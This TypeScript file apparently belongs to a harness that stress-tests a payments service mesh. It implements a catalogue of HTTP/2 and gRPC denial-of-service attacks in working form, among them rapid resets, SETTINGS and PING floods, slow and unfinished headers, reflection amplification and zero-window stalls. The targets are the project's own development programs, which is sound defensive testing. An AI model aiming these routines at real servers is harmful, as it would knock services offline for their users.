import { create, toBinary } from "@bufbuild/protobuf";
import type { ProgramName } from "../../dev-mesh/mesh-directory.ts";
import { ListPaymentsRequestSchema, RelayService } from "../../gen/cardlane/relay/v1/relay_pb.ts";
import {
  ServerReflection,
  ServerReflectionRequestSchema,
} from "../../gen/grpc/reflection/v1/reflection_pb.ts";
import { Health } from "../../gen/health/v1/health_pb.ts";
import type { Enterer } from "../besieged-mesh.ts";
import { callStart, dataFrame, lengthPrefixed, pathOf } from "../wire/grpc-calls.ts";
import { grpcFields, headerBlock } from "../wire/hpack.ts";
import { FRAME, frameBytes, SETTING, settingsFrame, uint32 } from "../wire/http2-frames.ts";
import type { Line, Lines } from "./line.ts";
import { receipts, watches } from "./share-attacks.ts";

export interface Attack {
  /** What is done to whom, for people and for --only. */
  readonly name: string;
  /** Programs that suffer it, each on its own. */
  readonly victims: readonly ProgramName[];
  /** As whom a TLS port is entered. */
  readonly as: Enterer;
  /** Says everything it has to say, or stops when it is over; what it opened stays open. */
  readonly run: (lines: Lines) => Promise<void>;
}

const REFLECT = pathOf(ServerReflection.method.serverReflectionInfo);
const CHECK = pathOf(Health.method.check);
const LIST = pathOf(RelayService.method.listPayments);
/** Frames that go into one write. */
const AT_ONCE = 500;
const DRIP_MS = 250;
/** A message that every program would take; the relay's limit is the lowest. */
const ANNOUNCED_BYTES = 16_000;

export const ATTACKS: readonly Attack[] = [
  {
    name: "tiny frames",
    victims: ["relay", "processor"],
    as: "stranger",
    run: tinyFrames,
  },
  { name: "idle connections", victims: ["reader", "relay"], as: "stranger", run: idle },
  {
    name: "headers without an end",
    victims: ["reader", "relay"],
    as: "stranger",
    run: openHeaders,
  },
  { name: "dripping headers", victims: ["relay"], as: "stranger", run: drippingHeaders },
  { name: "bodies that never come", victims: ["relay"], as: "stranger", run: noBodies },
  { name: "rapid resets", victims: ["relay", "processor"], as: "stranger", run: rapidResets },
  { name: "SETTINGS flood", victims: ["relay"], as: "stranger", run: settingsFlood },
  { name: "PING flood", victims: ["relay"], as: "stranger", run: pingFlood },
  { name: "reflection flood", victims: ["relay"], as: "stranger", run: reflectionFlood },
  {
    name: "streams one after the other",
    victims: ["pin-service", "relay"],
    as: "stranger",
    run: streamsInTurn,
  },
  { name: "zero window", victims: ["relay"], as: "peer", run: zeroWindow },
  { name: "receipts of one payment", victims: ["relay"], as: "insider", run: receipts },
  { name: "receipts of many payments", victims: ["relay"], as: "insider", run: receipts },
  { name: "watches", victims: ["relay"], as: "insider", run: watches },
];

/** Messages that are announced and come byte by byte, each byte a frame. */
async function tinyFrames(lines: Lines): Promise<void> {
  const line = await lines.http2();
  const ids = Array.from({ length: 60 }, (_, index) => 2 * index + 1);
  const head = lengthPrefixed(new Uint8Array(0), ANNOUNCED_BYTES);
  for (const id of ids) {
    await line.send(Buffer.concat([callStart(id, REFLECT), dataFrame(id, head)]));
  }
  const round = Buffer.concat(ids.map((id) => dataFrame(id, Buffer.of(0x0a))));
  await repeated(line, round, lines.scaled(ANNOUNCED_BYTES - 1), 10);
}

/** Three bytes in plaintext, a handshake under TLS, and nothing more. */
async function idle(lines: Lines): Promise<void> {
  const isPlain = lines.target.tls === undefined;
  await lines.many(isPlain ? 2_000 : 400, async (line) => {
    if (isPlain) await line.send(Buffer.from("PRI"));
  });
}

async function openHeaders(lines: Lines): Promise<void> {
  const payload = headerBlock(grpcFields(CHECK));
  const unfinished = frameBytes({ type: FRAME.HEADERS, streamId: 1, payload });
  for (let opened = 0; opened < lines.scaled(300) && !lines.isOver; opened += 1) {
    await (await lines.http2()).send(unfinished);
  }
}

/** A header block that goes on for as long as there is time. */
async function drippingHeaders(lines: Lines): Promise<void> {
  const dripping: Line[] = [];
  const payload = headerBlock(grpcFields(CHECK));
  for (let opened = 0; opened < lines.scaled(200) && !lines.isOver; opened += 1) {
    const line = await lines.http2();
    await line.send(frameBytes({ type: FRAME.HEADERS, streamId: 1, payload }));
    dripping.push(line);
  }
  const drop = frameBytes({
    type: FRAME.CONTINUATION,
    streamId: 1,
    payload: headerBlock([["x", "y"]]),
  });
  while (!lines.isOver) {
    for (const line of dripping) await line.send(drop);
    await lines.target.clock.sleep(DRIP_MS);
  }
}

/** Unary calls whose headers are there. */
async function noBodies(lines: Lines): Promise<void> {
  for (let opened = 0; opened < 10 && !lines.isOver; opened += 1) {
    const line = await lines.http2();
    const calls = Array.from({ length: lines.scaled(100) }, (_, index) =>
      callStart(2 * index + 1, CHECK),
    );
    await line.send(Buffer.concat(calls));
  }
}

async function rapidResets(lines: Lines): Promise<void> {
  const attacking = Array.from({ length: 3 }, async () => {
    const line = await lines.http2();
    await inStreams(line, lines.scaled(30_000), AT_ONCE, (id) =>
      Buffer.concat([
        callStart(id, CHECK),
        frameBytes({ type: FRAME.RST_STREAM, streamId: id, payload: uint32(8) }),
      ]),
    );
  });
  await Promise.all(attacking);
}

/** Nobody reads the acknowledgements. */
async function settingsFlood(lines: Lines): Promise<void> {
  const line = await lines.http2();
  line.socket.pause();
  const frame = settingsFrame([[SETTING.INITIAL_WINDOW_SIZE, 65_535]]);
  await repeated(line, frame, lines.scaled(200_000), AT_ONCE);
}

async function pingFlood(lines: Lines): Promise<void> {
  const line = await lines.http2();
  line.socket.pause();
  const frame = frameBytes({ type: FRAME.PING, payload: Buffer.alloc(8, 1) });
  await repeated(line, frame, lines.scaled(200_000), AT_ONCE);
}

/** Small questions with large answers. */
async function reflectionFlood(lines: Lines): Promise<void> {
  const line = await lines.http2();
  const question = create(ServerReflectionRequestSchema, {
    messageRequest: { case: "fileContainingSymbol", value: RelayService.typeName },
  });
  const message = lengthPrefixed(toBinary(ServerReflectionRequestSchema, question));
  const questions = Buffer.concat(Array.from({ length: 20 }, () => message));
  await inStreams(line, lines.scaled(50), 1, (id) =>
    Buffer.concat([callStart(id, REFLECT), dataFrame(id, questions)]),
  );
}

/** Each is answered and ends before many others begin. */
async function streamsInTurn(lines: Lines): Promise<void> {
  const line = await lines.http2();
  let answeredBytes = 0;
  line.socket.on("data", ({ byteLength }: Buffer) => {
    answeredBytes += byteLength;
  });
  const some = 100;
  for (let opened = 0; opened < lines.scaled(40_000) && line.isUsable; opened += some) {
    const answeredBefore = answeredBytes;
    const calls = Array.from({ length: some }, (_, index) => {
      const id = 2 * (opened + index) + 1;
      return Buffer.concat([callStart(id, REFLECT), dataFrame(id, new Uint8Array(0), true)]);
    });
    await line.send(Buffer.concat(calls));
    // Headers and trailers of each take more than this.
    while (line.isUsable && answeredBytes - answeredBefore < some * 18) {
      await lines.target.clock.sleep(1);
    }
  }
}

/** Long answers that may not be sent. */
async function zeroWindow(lines: Lines): Promise<void> {
  const request = create(ListPaymentsRequestSchema, { pageSize: 500 });
  const message = lengthPrefixed(toBinary(ListPaymentsRequestSchema, request));
  const attacking = Array.from({ length: 2 }, async () => {
    const line = await lines.http2([[SETTING.INITIAL_WINDOW_SIZE, 0]]);
    await inStreams(line, lines.scaled(800), 20, (id) =>
      Buffer.concat([callStart(id, LIST), dataFrame(id, message, true)]),
    );
  });
  await Promise.all(attacking);
}

async function repeated(line: Line, frame: Buffer, count: number, perWrite: number): Promise<void> {
  const write = Buffer.concat(Array.from({ length: perWrite }, () => frame));
  for (let sent = 0; sent < count && line.isUsable; sent += perWrite) await line.send(write);
}

async function inStreams(
  line: Line,
  count: number,
  perWrite: number,
  bytesOf: (streamId: number) => Buffer,
): Promise<void> {
  for (let sent = 0; sent < count && line.isUsable; sent += perWrite) {
    const some = Array.from({ length: perWrite }, (_, index) => bytesOf(2 * (sent + index) + 1));
    await line.send(Buffer.concat(some));
  }
}
